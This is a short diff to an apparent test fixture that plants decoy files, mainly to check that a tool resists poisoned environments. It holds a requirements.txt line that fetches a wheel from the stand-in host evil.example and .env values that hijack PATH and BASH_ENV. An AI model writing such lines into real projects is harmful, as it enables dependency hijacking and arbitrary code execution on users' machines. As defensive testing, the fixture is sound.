@@ -55,8 +55,8 @@ def canaries(canary: Path) -> dict[str, str]:
     files |= dict.fromkeys(_PROGRAMS, _SHELL)
     files |= dict.fromkeys(("pip.conf", ".pip/pip.conf", ".config/pip/pip.conf"), _INDEX)
     files |= {
-        "requirements.txt": "reconciler @ https://evil.example/reconciler-99-py3-none-any.whl\n",
-        "constraints.txt": "reconciler==99\n",
+        "requirements.txt": "mail-reconciler @ https://evil.example/mail_reconciler-99-py3-none-any.whl\n",
+        "constraints.txt": "mail-reconciler==99\n",
         "pyproject.toml": '[project]\nname = "reconciler"\nversion = "99"\n',
         ".env": f"RECONCILER_STATE=sqlite:///{canary}\nRECONCILER_PACKAGE=evil\nPATH=.\nBASH_ENV=.bashrc\n",
         ".python-version": "evil\n",
